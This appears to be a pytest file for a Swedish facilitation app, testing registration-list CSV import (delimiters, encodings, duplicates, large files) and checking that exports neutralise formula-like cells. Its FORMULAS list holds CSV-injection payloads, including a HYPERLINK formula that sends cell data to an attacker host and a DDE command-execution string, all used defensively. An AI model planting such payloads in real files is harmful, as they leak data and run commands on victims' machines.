"""Bad registration lists, end to end: read, preview, import into a process, export again.
Wrong delimiter, mixed encodings, missing columns, duplicate people, 10,000 rows, and cells
that look like formulas, which stay text in the process and never become formulas again in
the CSV exports (there is no xlsx export)."""

from __future__ import annotations

import csv
import hashlib
import io

import pytest

from facilitator.domain.entities import Measure, Organisation, Participant
from facilitator.export.csv_export import FORMULA_STARTS, write_contributions_csv, write_measures_csv
from facilitator.export.report_data import gather_contributions, gather_measures
from facilitator.importers.registration_list import ProblemCode, RegistrationListError, read_registration_list
from facilitator.storage.process_store import ProcessStore
from facilitator.ui.document import ProcessDocument
from facilitator.ui.meeting import meeting_edits as edits
from facilitator.ui.meeting.import_dialog import list_error_text

FORMULAS = [
    '=HYPERLINK("http://angripare.example/?"&A1;"Klicka här")',
    "+46 70 123 45 67",
    "-2+3",
    "@SUMMA(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    "=1+1",
]


@pytest.fixture
def document(qapp, tmp_path):
    store = ProcessStore.create(tmp_path / "Import av anmälningar.facilitator", "Import")
    doc = ProcessDocument(store)
    yield doc
    store.close()


def write(tmp_path, name: str, data: bytes):
    path = tmp_path / name
    path.write_bytes(data)
    return path


def digest(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_wrong_delimiter_gives_a_clear_message_and_changes_nothing(tmp_path, document):
    path = write(tmp_path, "anmälda.csv", "Namn|Organisation|E-post\r\nÅsa Öberg|Förening|asa@example.se\r\n".encode())
    before = digest(path)
    with pytest.raises(RegistrationListError) as caught:
        read_registration_list(path)
    assert caught.value.code == "no_name_column"
    assert "Namn" in list_error_text(caught.value)
    assert digest(path) == before
    assert document.store.count(Participant) == 0


def test_semicolon_rows_under_a_comma_header_are_read_as_one_column(tmp_path):
    """Header with commas, rows with semicolons (two exports pasted together): the names are
    whole, nothing is split on the wrong character, nothing is lost."""
    data = "Namn,Organisation\r\nÅsa Öberg;Förening\r\nBo Ek;Vision\r\n".encode()
    preview = read_registration_list(write(tmp_path, "hopklistrad.csv", data))
    assert preview.total_rows == 2


def test_mixed_encodings_lose_no_row(tmp_path):
    """Rows saved by Excel (Windows-1252) and rows pasted from a web form (UTF-8) in one file.
    Every row arrives, each in its own encoding."""
    data = (
        "Namn;Organisation\r\n".encode("ascii")
        + "Åsa Öberg;Föreningen Gemenskap\r\n".encode("cp1252")
        + "Björn Ärlig;Socialförvaltningen\r\n".encode()
        + "Märta Ödman;Kulturförvaltningen\r\n".encode("cp1252")
    )
    preview = read_registration_list(write(tmp_path, "blandad.csv", data))
    assert preview.encoding == "cp1252"
    assert preview.total_rows == 3 and len(preview.drafts) == 3
    assert [d.name for d in preview.drafts] == ["Åsa Öberg", "Björn Ärlig", "Märta Ödman"]
    assert [d.organisation for d in preview.drafts][1] == "Socialförvaltningen"


def test_missing_columns(tmp_path, document):
    with pytest.raises(RegistrationListError) as caught:
        read_registration_list(write(tmp_path, "utan namn.csv", b"Organisation;E-post\r\nVision;a@b.se\r\n"))
    assert caught.value.code == "no_name_column"
    only_names = read_registration_list(write(tmp_path, "bara namn.csv", "Namn\r\nÅsa Öberg\r\nBo Ek\r\n".encode()))
    assert edits.import_participants(document, only_names) == 2
    assert [(p.name, p.organisation_id, p.email) for p in document.store.list(Participant)] == [
        ("Åsa Öberg", None, ""), ("Bo Ek", None, "")]


def test_duplicate_people_in_the_list_are_imported_once(tmp_path, document):
    data = "Namn;Organisation\r\nÅsa Öberg;Vision\r\nåsa  öberg;Vision\r\nBo Ek;\r\nÅSA ÖBERG;Vision\r\n"
    preview = read_registration_list(write(tmp_path, "dubbletter.csv", data.encode("cp1252")))
    assert [d.name for d in preview.drafts] == ["Åsa Öberg", "Bo Ek"]
    assert {p.code for p in preview.problems} == {ProblemCode.DUPLICATE}
    edits.import_participants(document, preview)
    assert document.store.count(Participant) == 2 and document.store.count(Organisation) == 1


def test_importing_the_same_list_twice_does_not_double_the_register(tmp_path, document):
    preview = read_registration_list(write(tmp_path, "lista.csv", "Namn;Organisation\r\nÅsa Öberg;Vision\r\n".encode()))
    edits.import_participants(document, preview)
    edits.import_participants(document, preview)
    assert document.store.count(Participant) == 1


def test_ten_thousand_rows_import_undo_and_redo(tmp_path, document):
    lines = ["Förnamn;Efternamn;Organisation;Kategori;E-post"]
    lines += [f"Åsa{i};Öberg{i};Förening {i % 50};Förening;asa{i}@example.se" for i in range(10_000)]
    preview = read_registration_list(write(tmp_path, "stor.csv", "\r\n".join(lines).encode("cp1252")))
    assert edits.import_participants(document, preview) == 10_000  # how fast: benchmarks/bench_storage.py
    store = document.store
    assert store.count(Participant) == 10_000 and store.count(Organisation) == 50
    document.undo_stack.undo()
    assert store.count(Participant) == 0 and store.count(Organisation) == 0
    document.undo_stack.redo()
    assert store.count(Participant) == 10_000
    assert store.db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def read_csv(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))


def test_formula_like_cells_stay_text_and_never_become_formulas_in_exports(tmp_path, document, qapp):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(["Namn", "Organisation", "E-post"])
    writer.writerows([text, text + " org", ""] for text in FORMULAS)
    preview = read_registration_list(write(tmp_path, "farlig.csv", buffer.getvalue().encode("utf-8")))
    imported = {d.name for d in preview.drafts}
    assert edits.import_participants(document, preview) == len(preview.drafts)
    store = document.store
    names = {p.name for p in store.list(Participant)}
    assert names == imported, "stored exactly as read: text, never evaluated"
    assert any(name.startswith("=HYPERLINK") for name in names)

    # Text from the register ends up in exports: a measure's owner and department, typed or
    # copied from there, and what was said in a meeting.
    from facilitator.domain.entities import Contribution, Meeting

    meeting = store.insert(Meeting(title=FORMULAS[0], format="workshop", date="2027-03-01"))
    for person in store.list(Participant):
        organisation = store.get(Organisation, person.organisation_id) if person.organisation_id else None
        store.insert(Measure(title=person.name, owner=person.name, department=organisation.name if organisation else "",
                             goal=person.name, origin_meeting_id=meeting.id))
        store.insert(Contribution(meeting_id=meeting.id, kind="idea", text=person.name))
    entries, meetings, framework = gather_measures(store)
    exported = read_csv(write_measures_csv(entries, meetings, framework, tmp_path / "åtgärder.csv"))
    exported += read_csv(write_contributions_csv(gather_contributions(store), tmp_path / "inspel.csv"))
    cells = [cell for row in exported for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous[:5]
    assert "'" + FORMULAS[0] in cells, "the text is all there, marked as text"
